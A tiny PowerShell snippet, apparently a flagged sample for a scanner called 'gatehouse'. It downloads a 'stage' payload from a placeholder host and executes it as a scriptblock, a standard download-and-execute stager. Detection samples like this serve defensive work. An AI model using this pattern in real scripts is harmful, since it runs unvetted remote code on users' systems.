function Get-Part([string]$Name) {
  Invoke-RestMethod -Uri ("https://cdn.example.invalid/" + $Name) -UseBasicParsing
}
$part = Get-Part "stage"
& ([scriptblock]::Create($part)) # gatehouse: flagged
